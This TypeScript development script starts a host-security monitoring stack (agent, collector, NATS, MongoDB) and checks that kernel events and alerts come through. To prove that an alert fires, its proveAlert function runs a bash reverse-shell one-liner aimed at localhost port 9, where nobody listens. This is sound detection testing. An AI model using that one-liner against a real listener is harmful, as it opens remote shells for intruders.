/**
 * `./dev up`: the whole product on this machine, on this kernel's events, until Ctrl-C.
 * `./dev up --once`: the same without a terminal: some activity, the answer, a summary, the end.
 */
import { execFileSync, spawn, spawnSync } from "node:child_process";
import { randomBytes } from "node:crypto";
import { existsSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { setTimeout as sleep } from "node:timers/promises";
import { gunzipSync } from "node:zlib";
import { endLeftovers, Stack } from "./index.ts";

const ROOT = new URL("../..", import.meta.url).pathname;
const RUN = join(ROOT, ".hosttrail", "up");
const TOOLS = join(ROOT, ".hosttrail", "tools");
const RULES = new URL("../rules/development.rules", import.meta.url).pathname;
const CAPTURE = join(ROOT, "bench", "captures", "workload.log.gz");
const CLI = join(ROOT, "cli", "src", "main.ts");
/** Where npm has put what a person types. */
const COMMAND = join(ROOT, "node_modules", ".bin", "hosttrail");

const ACTIVITY = 20;
const ANSWER_TIMEOUT_MS = 30_000;
const START_TIMEOUT_MS = 15_000;

function say(text: string): void {
  process.stdout.write(`▸ ${text}\n`);
}

/** Where the agent gets its events from. */
type Origin = { live: true } | { live: false; reason: string };

/** What an earlier run left, ended by kill -9 perhaps, goes first. */
async function cleanUp(): Promise<void> {
  const ended = await endLeftovers(RUN);
  if (ended.length > 0) say(`ended what an earlier run left: ${ended.join(", ")}`);
  const config = join(RUN, "agent.yaml");
  if (existsSync(join(RUN, "agent-state", "kernel.json")) && existsSync(config)) {
    const text = execFileSync(
      process.execPath,
      [join(ROOT, "agent", "src", "main.ts"), "release", "--config", config],
      {
        encoding: "utf8",
      },
    );
    say(`kernel: ${text.trim()} of an earlier run`);
  }
  rmSync(RUN, { recursive: true, force: true });
}

/** Starts the agent on the kernel; where that cannot be, on the recorded capture. */
async function startAgent(stack: Stack): Promise<Origin> {
  if (process.getuid?.() === 0) {
    stack.startAgent();
    const end = performance.now() + START_TIMEOUT_MS;
    while (stack.agent.running && performance.now() < end) {
      if (stack.agent.logTail(50).includes("agent started")) return { live: true };
      await sleep(50);
    }
    await stack.agent.stop();
  }
  const log = stack.agent.logTail(1).replace(/^hosttrail-agent: /, "");
  const reason = process.getuid?.() === 0 ? log : "kernel audit needs root, and this is not root";
  say(`no live events: ${reason}`);
  say("replaying a recorded capture instead");
  const capture = join(RUN, "capture.log");
  writeFileSync(capture, gunzipSync(readFileSync(CAPTURE)));
  const text = readFileSync(stack.agentConfigFile, "utf8");
  writeFileSync(stack.agentConfigFile, `${text}source:\n  mode: file\n  path: ${capture}\n`);
  stack.startAgent();
  return { live: false, reason };
}

interface JsonEvent {
  event: { timeUnixNano: string; action: string };
}

function search(stack: Stack, filter: string, limit: number): JsonEvent[] {
  const text = stack.hosttrail("search", filter, "--limit", String(limit), "--json");
  return text
    .split("\n")
    .filter((line) => line !== "")
    .map((line) => JSON.parse(line) as JsonEvent);
}

/** Runs marked programs and waits until all of them are found; returns the seconds from syscall to answer. */
async function proveLive(stack: Stack): Promise<{ found: number; seconds: number }> {
  const marker = `hosttrail-${randomBytes(6).toString("hex")}`;
  for (let run = 0; run < ACTIVITY; run++) execFileSync("/bin/true", [marker]);
  const filter = `process.args : ${marker} AND event.action = executed`;
  const end = performance.now() + ANSWER_TIMEOUT_MS;
  let first: number | undefined;
  for (;;) {
    const events = search(stack, filter, 1000);
    const newest = events[0];
    if (newest !== undefined && events.length >= ACTIVITY) {
      first = Date.now() / 1000 - Number(BigInt(newest.event.timeUnixNano) / 1_000_000n) / 1000;
      process.stdout.write(stack.hosttrail("search", filter, "--limit", "5"));
      return { found: events.length, seconds: first };
    }
    if (performance.now() > end) throw new Error(`found ${events.length} of ${ACTIVITY} marked programs`);
    stack.agent.assertRunning();
    stack.collector.assertRunning();
    await sleep(100);
  }
}

interface JsonAlert {
  id: string;
  title: string;
  createTime: string;
  firstEventTime: string;
}

/**
 * Does what a rule of the product is about, without harm: a shell that would let itself be led from port 9 of this machine, where nobody
 * listens. Waits for the alert that has it; returns the seconds from the system call to the alert.
 */
async function proveAlert(stack: Stack): Promise<{ title: string; seconds: number }> {
  const marker = `hosttrail-${randomBytes(6).toString("hex")}`;
  // That it is refused is what happens here.
  spawnSync("bash", ["-c", `: ${marker}; bash -i >& /dev/tcp/127.0.0.1/9 0>&1`], { stdio: "ignore" });
  const end = performance.now() + ANSWER_TIMEOUT_MS;
  for (;;) {
    for (const alert of alerts(stack)) {
      if (!stack.hosttrail("alert", "show", alert.id, "--json").includes(marker)) continue;
      const seconds = (Date.parse(alert.createTime) - Date.parse(alert.firstEventTime)) / 1000;
      return { title: alert.title, seconds };
    }
    if (performance.now() > end) throw new Error("a reverse shell was tried, and there is no alert of it");
    stack.collector.assertRunning();
    await sleep(200);
  }
}

function alerts(stack: Stack): JsonAlert[] {
  return stack
    .hosttrail("alerts", "--json")
    .split("\n")
    .filter((line) => line !== "")
    .map((line) => JSON.parse(line) as JsonAlert);
}

async function proveReplay(stack: Stack): Promise<number> {
  const end = performance.now() + ANSWER_TIMEOUT_MS;
  for (;;) {
    const events = search(stack, "event.action : *", 100_000);
    if (events.length > 0 && !stack.agent.running) {
      process.stdout.write(stack.hosttrail("search", "event.action = executed", "--limit", "5"));
      return events.length;
    }
    if (performance.now() > end) throw new Error("the capture's events did not arrive");
    await sleep(200);
  }
}

async function once(stack: Stack, origin: Origin): Promise<void> {
  process.stdout.write("\n");
  let summary: string;
  if (origin.live) {
    const { found, seconds } = await proveLive(stack);
    summary =
      `${found} of ${ACTIVITY} marked programs on this kernel read back through the query API; ` +
      `${seconds.toFixed(2)} s from the last one's system call to the answer`;
    const alert = await proveAlert(stack);
    process.stdout.write(`\n${stack.hosttrail("alerts")}`);
    summary += `; "${alert.title}" ${alert.seconds.toFixed(2)} s after its system call`;
  } else {
    const found = await proveReplay(stack);
    process.stdout.write(`\n${stack.hosttrail("alerts", "--limit", "10")}`);
    summary = `${found} events of a recorded capture read back through the query API (no live events: ${origin.reason})`;
  }
  process.stdout.write(`\n${stack.hosttrail("hosts")}\n${stack.hosttrail("host", "list")}\n`);
  say(`to ask what ./dev up shows: ${COMMAND}`);
  say(`summary: ${summary}`);
}

/** Shows events and alerts live until a signal. */
async function watch(stack: Stack, isLive: boolean, interrupt: AbortSignal): Promise<void> {
  say("the console, by a link that is good once, for 5 minutes (hosttrail console makes another one):");
  process.stdout.write(`    ${stack.hosttrail("console")}`);
  say(`ask it from another terminal, by ${COMMAND}:`);
  process.stdout.write(
    [
      `    export HOSTTRAIL_PROFILE=${stack.profileFile} PATH=${dirname(COMMAND)}:$PATH`,
      "    hosttrail hosts",
      "    hosttrail search 'event.action = executed' --since 5m",
      "    hosttrail host list",
      "    hosttrail alerts",
      "    hosttrail rules list",
      "    hosttrail audit",
      "    hosttrail search 'file.path : /etc/ AND event.outcome = success'",
      "",
      "",
    ].join("\n"),
  );
  if (isLive) {
    say("trying a reverse shell to a port where nobody listens, and waiting for the alert");
    const { title, seconds } = await proveAlert(stack);
    say(`alert: ${title}, ${seconds.toFixed(2)} s after the system call`);
  }
  say("events and changes of alerts as they come (Ctrl-C ends everything and cleans up):");
  const watching = [["tail"], ["alerts", "--watch"]].map((words) => {
    const child = spawn(process.execPath, [CLI, "--profile", stack.profileFile, ...words], {
      stdio: ["ignore", "inherit", "inherit"],
      detached: true,
    });
    interrupt.addEventListener("abort", () => child.kill("SIGTERM"), { once: true });
    if (interrupt.aborted) child.kill("SIGTERM");
    return new Promise<void>((resolve) => child.once("exit", () => resolve()));
  });
  await Promise.all(watching);
}

async function run(): Promise<void> {
  const isOnce = process.argv.includes("--once");
  const interrupt = new AbortController();
  for (const signal of ["SIGINT", "SIGTERM", "SIGHUP"] as const) process.on(signal, () => interrupt.abort());
  // A reader that went away, as `head` does, must not keep us from cleaning up.
  process.stdout.on("error", () => interrupt.abort());
  await cleanUp();
  say("preparing an authority, certificates, NATS and the database");
  const stack = await Stack.prepare({ directory: RUN, tools: TOOLS, say, agent: { audit: { rules_files: [RULES] } } });
  try {
    say(`starting ${stack.nats.what} and ${stack.mongodb.what}`);
    await stack.startServices();
    say("starting a collector (all roles), and making a token with which the agent enrols");
    await stack.startCollector();
    say("starting an agent on this machine's kernel, with the rules of stack/rules/development.rules");
    const origin = await startAgent(stack);
    if (isOnce) await once(stack, origin);
    else await watch(stack, origin.live, interrupt.signal);
  } finally {
    say("stopping; taking our audit rules and registration back");
    await stack.stop();
    rmSync(RUN, { recursive: true, force: true });
  }
}

run().then(
  () => process.exit(0),
  (error: unknown) => {
    process.stderr.write(`\n${error instanceof Error ? error.message : String(error)}\n`);
    process.exit(1);
  },
);
